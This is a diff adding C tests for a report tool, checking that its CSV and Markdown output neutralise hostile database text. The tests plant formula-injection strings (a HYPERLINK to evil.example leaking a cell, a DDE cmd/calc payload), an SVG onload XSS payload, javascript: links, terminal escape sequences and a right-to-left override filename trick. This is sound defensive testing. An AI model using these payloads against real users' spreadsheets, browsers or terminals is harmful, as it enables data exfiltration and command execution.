@@ -532,3 +532,78 @@ Test(status, a_due_day_ends_at_midnight_local_time) {
         cr_assert_eq(seen, 2);
         json_decref(rows);
 }
+
+/* What agencies and documents could put in the database, whatever refused it on the way in: formulas,
+ * HTML, Markdown links and terminal escapes in names, agency codes and "done by". */
+static void plant_hostile_text(void) {
+        import_seed_and_report_two();
+        db_exec("UPDATE measure SET name = '=HYPERLINK(\"http://evil.example/\"&A1,\"click\")' WHERE number = 2");
+        db_exec("UPDATE measure SET name = char(9) || '=1+1' WHERE number = 3");
+        db_exec("UPDATE measure SET name = char(13) || '=2+2' WHERE number = 5");
+        db_exec("UPDATE measure SET name = '<svg onload=alert(1)> [x](javascript:alert(1)) `code` *bold*' "
+                "WHERE number = 6");
+        db_exec("UPDATE measure SET name = 'Title' || char(27) || ']0;pwned' || char(7) || char(27) || '[2J'"
+                " || char(0x9B) || '2J ' || char(0x202E) || 'gnp.exe' WHERE number = 8");
+        db_exec("UPDATE measure SET name = '＝1+1' WHERE number = 9");
+        db_exec("UPDATE agency SET code = '@SUM(1+1)*cmd|'' /C calc''!A0' WHERE code = 'ИИДМ'");
+        db_exec("UPDATE occurrence SET done_by = '+1+2' WHERE status = 'done' AND effective_due < '2022-07-01'");
+        db_exec("UPDATE occurrence SET done_by = '-2+3' WHERE status = 'done' AND effective_due > '2022-07-01'");
+}
+
+Test(status, report_csv_cells_never_start_with_a_formula) {
+        plant_hostile_text();
+        _cleanup_free_ char *out = NULL, *err = NULL;
+        cr_assert_eq(CTL(&out, &err, "report", "--format", "csv", "--now", "2023-07-01"), 0, "%s", err);
+        cr_assert_null(strchr(out, '\x1b'), "an ESC byte in the CSV");
+        json_t *rows = python_csv(out);
+        cr_assert_eq(json_array_size(rows), 47 + 1);
+        size_t i, k;
+        json_t *r, *cell;
+        int neutralised = 0;
+        json_array_foreach(rows, i, r) {
+                json_array_foreach(r, k, cell) {
+                        const char *c = json_string_value(cell);
+                        cr_expect(!strchr("=+-@\t\r", c[0]) || !c[0], "row %zu, column %zu starts with a formula: %s",
+                                  i, k, c);
+                        cr_expect(strncmp(c, "＝", strlen("＝")) != 0, "a full-width = first: %s", c);
+                        neutralised += c[0] == '\'';
+                }
+        }
+        /* Each planted value comes back whole, after an apostrophe. */
+        cr_assert_geq(neutralised, 7, "%d cells neutralised", neutralised);
+        static const struct {
+                int measure, column;
+                const char *want;
+        } planted[] = {
+                {2, 3, "'=HYPERLINK(\"http://evil.example/\"&A1,\"click\")"},
+                {3, 3, "'\\x09=1+1"},
+                {5, 3, "'\\x0D=2+2"},
+                {9, 3, "'＝1+1"},
+                {1, 9, "'+1+2"},
+                {4, 9, "'-2+3"},
+                {1, 4, "'@SUM(1+1)*cmd|' /C calc'!A0, ҰЭМ, \"Атамекен\" ҰКП*, ҚМО*"},
+        };
+        for (size_t p = 0; p < ELEMENTSOF(planted); p++) {
+                json_t *row = NULL;
+                _cleanup_free_ char *number = xasprintf("%d", planted[p].measure);
+                json_array_foreach(rows, i, r) if (streq(CELL(r, 1), number)) row = row ? row : r;
+                cr_assert_not_null(row, "no row of measure %d", planted[p].measure);
+                cr_expect_str_eq(CELL(row, planted[p].column), planted[p].want, "measure %d", planted[p].measure);
+        }
+        json_decref(rows);
+}
+
+Test(status, report_md_escapes_html_markdown_and_terminal_controls) {
+        plant_hostile_text();
+        _cleanup_free_ char *out = NULL, *err = NULL;
+        cr_assert_eq(CTL(&out, &err, "report", "--format", "md", "--now", "2023-07-01"), 0, "%s", err);
+        cr_assert_null(strstr(out, "<svg"), "raw HTML in the Markdown: %s", out);
+        cr_assert(strstr(out, "&lt;svg onload=alert(1)&gt; \\[x\\](javascript:alert(1)) \\`code\\` \\*bold\\*"),
+                  "%s", out);
+        for (const char *p = out; *p; p++)
+                cr_assert((unsigned char) *p >= 0x20 || *p == '\n', "a control character 0x%02x in: %.60s",
+                          (unsigned char) *p, p);
+        cr_assert_null(strstr(out, "\xc2\x9b"), "a C1 control (CSI) in the Markdown");
+        cr_assert_null(strstr(out, "\xe2\x80\xae"), "a right-to-left override in the Markdown");
+        cr_assert(strstr(out, "Title\\\\x1B\\]0;pwned\\\\x07\\\\x1B\\[2J\\\\u009B2J \\\\u202Egnp.exe"), "%s", out);
+}
